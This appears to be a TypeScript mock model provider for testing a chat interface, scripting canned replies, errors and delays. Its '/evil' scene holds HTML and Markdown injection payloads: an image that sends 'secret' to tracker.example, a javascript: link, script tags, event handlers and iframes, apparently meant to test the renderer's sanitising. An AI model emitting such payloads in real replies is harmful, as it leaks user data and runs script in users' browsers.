// What the mock's models say. A message that begins with a word below plays that scene; anything else gets a short answer.
//   /error KIND   fails at once with that kind      /cut KIND  fails after some text
//   /think        reasons first                     /long      an endless list      /empty  nothing at all
//   /wait         takes ten seconds to begin        /evil      Markdown that tries to reach out
import type { ErrorObject, Message } from "../src/api/types.ts";

export interface Script {
  delayMs: number;
  pieces: { kind: "text" | "reasoning"; text: string }[];
  error: ErrorObject | null;
  usage: "known" | "unknown";
}

const showcase = `A **hash table** keeps pairs of a key and a value, and finds a value again without looking at the others.

## How it works

1. A *hash function* turns the key into a number.
2. The number picks one of the table's slots.
3. The pair is stored there; when two keys meet in one slot, they share it as a short list.

Think of a cloakroom: your ticket's number tells the attendant exactly which hook to reach for. Nobody walks along all the coats.

\`\`\`python
class HashTable:
    """A tiny hash table with chaining."""

    def __init__(self, slots: int = 8) -> None:
        self.slots = [[] for _ in range(slots)]

    def set(self, key: str, value: object) -> None:
        bucket = self.slots[hash(key) % len(self.slots)]
        for index, (known, _) in enumerate(bucket):
            if known == key:
                bucket[index] = (key, value)  # replace
                return
        bucket.append((key, value))
\`\`\`

| operation | on average | at worst |
|---|---:|---:|
| \`get\` | O(1) | O(n) |
| \`set\` | O(1) | O(n) |
| walk in order | not offered | not offered |

> The price for this speed is memory: a table that is nearly full becomes slow, so it grows before that.

More about it stands in [an encyclopedia](https://example.org/hash_table).`;

const thinking = `The question is simple, but the answer should name a trade-off.

First, what is asked: a comparison from daily life. A cloakroom fits, since a ticket's number leads straight to a hook.

Then mention that two coats may share a hook.`;

const evil = `An image that reports home: ![diagram](https://tracker.example/collect?c=secret)

A link that runs code: [click](javascript:alert(1)), one to this server: [admin](/admin/v1/status), and an honest one: [docs](https://example.org/).

<img src="https://tracker.example/pixel.gif" onerror="alert(1)"><script>alert(2)</script><iframe src="https://tracker.example/"></iframe>
<form action="https://tracker.example/"><input type="image" src="https://tracker.example/b.gif"></form>
<style>body{background:url(https://tracker.example/bg.png)}</style><p style="background:url(https://tracker.example/p.png)" onclick="alert(3)">A paragraph with a style.</p>

That was all.`;

const short = "Of course. Five names: **Salt & Crumb**, **The Rising Tide**, **Harbour Loaf**, **Drift & Dough**, and **First Light**.\n\nThe last one also fits a shop that opens before the fishing boats come in.";

export function scriptFor(prompt: string, model: string): Script {
  const [word = "", argument = ""] = prompt.split(/\s+/);
  const script: Script = { delayMs: 250, pieces: cut(short, "text"), error: null, usage: "known" };
  if (word === "/error") return { ...script, pieces: [], error: errorOf(argument, model) };
  if (word === "/cut") return { ...script, pieces: cut(showcase, "text").slice(0, 60), error: errorOf(argument || "truncated", model) };
  if (word === "/think") return { ...script, pieces: [...cut(thinking, "reasoning"), ...cut(showcase, "text")] };
  if (word === "/long") return { ...script, pieces: Array.from({ length: 4000 }, (_, index) => ({ kind: "text" as const, text: `${index + 1}. Line ${index + 1} of a long list.\n` })) };
  if (word === "/empty") return { ...script, pieces: [], usage: "unknown" };
  if (word === "/wait") return { ...script, delayMs: 10_000 };
  if (word === "/evil") return { ...script, pieces: cut(evil, "text"), usage: "unknown" };
  if (/hash table/i.test(prompt)) return { ...script, pieces: cut(showcase, "text") };
  return script;
}

function cut(text: string, kind: "text" | "reasoning"): Script["pieces"] {
  return (text.match(/\s*\S{1,6}/g) ?? []).map((piece) => ({ kind, text: piece }));
}

function errorOf(kind: string, model: string): ErrorObject {
  return {
    kind,
    message: `The mock was asked for the error "${kind}".`,
    origin: "provider",
    provider: model.split("/")[0]!,
    model,
    status: 502,
    provider_status: kind === "rate_limited" ? 429 : 503,
    provider_code: `mock_${kind}`,
    param: kind === "invalid_request" ? "messages[0].content" : null,
    retryable: true,
    retry_after_ms: kind === "rate_limited" ? 34_000 : null,
  };
}

export const sample: { user: string; assistant: Pick<Message, "text" | "reasoning"> } = {
  user: "Explain what a hash table is, with an everyday comparison.",
  assistant: { text: showcase, reasoning: thinking },
};
